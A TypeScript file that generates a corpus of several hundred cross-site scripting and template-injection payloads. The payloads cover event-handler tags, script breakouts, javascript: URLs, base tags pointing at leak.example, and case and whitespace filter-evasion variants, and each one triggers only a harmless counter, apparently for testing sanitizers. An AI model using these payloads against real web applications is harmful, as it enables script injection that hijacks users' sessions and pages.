/** Texts that run where a page forgets that text is text: tags × what runs in them × ways to hide it. */
const hooks = [
  'onerror',
  'onload',
  'onfocus',
  'onmouseover',
  'ontoggle',
  'onanimationstart',
  'onpointerover',
  'onbegin',
  'onwheel',
]
const call = 'window.__ran=(window.__ran||0)+1'
const tags: ((hook: string) => string)[] = [
  (hook) => `<img src=x ${hook}="${call}">`,
  (hook) => `"><img src=x ${hook}="${call}">`,
  (hook) => `'><svg ${hook}="${call}"></svg>`,
  (hook) => `<svg><animate ${hook}="${call}" attributeName=x dur=1s></svg>`,
  (hook) => `<details open ${hook}="${call}">縁</details>`,
  (hook) => `<input autofocus ${hook}="${call}">`,
  (hook) => `<body ${hook}="${call}">`,
  (hook) => `" ${hook}="${call}" autofocus x="`,
  (hook) => `' ${hook}='${call}' autofocus x='`,
  (hook) => `<iframe srcdoc="<script>parent.__ran=1</script>" ${hook}="${call}"></iframe>`,
]
const whole = [
  `<script>${call}</script>`,
  `</script><script>${call}</script>`,
  `</title><script>${call}</script>`,
  `</textarea><script>${call}</script>`,
  `</style><script>${call}</script>`,
  `<!--><script>${call}</script>-->`,
  `javascript:${call}`,
  `data:text/html,<script>${call}</script>`,
  `<a href="javascript:${call}">縁</a>`,
  `<form action="javascript:${call}"><button>縁</button></form>`,
  `<object data="javascript:${call}"></object>`,
  `<embed src="javascript:${call}">`,
  `<math href="javascript:${call}">縁</math>`,
  `<base href="https://leak.example/">`,
  `<link rel=import href="https://leak.example/">`,
  `<meta http-equiv=refresh content="0;url=javascript:${call}">`,
  `\${${call}}`,
  `{{constructor.constructor('${call}')()}}`,
  `<%= ${call} %>`,
  `#{${call}}`,
  `\u2028${call}//`,
  `\\u003cscript\\u003e${call}\\u003c/script\\u003e`,
  `&lt;script&gt;${call}&lt;/script&gt;`,
  `＜script＞${call}＜/script＞`,
  `window.__reactRouterContext.streamController.enqueue("${call}")`,
]
const hidden: ((text: string) => string)[] = [
  (text) => text,
  (text) => text.replaceAll('<', '<\t').replaceAll('<\t/', '</'),
  (text) => text.replace(/on\w+/g, (hook) => hook.toUpperCase()),
  (text) => text.replaceAll('script', 'ScRiPt'),
]

/** The corpus, at least 300 different texts. */
export const payloads: readonly string[] = [
  ...new Set([...tags.flatMap((tag) => hooks.map(tag)), ...whole].flatMap((text) => hidden.map((hide) => hide(text)))),
]
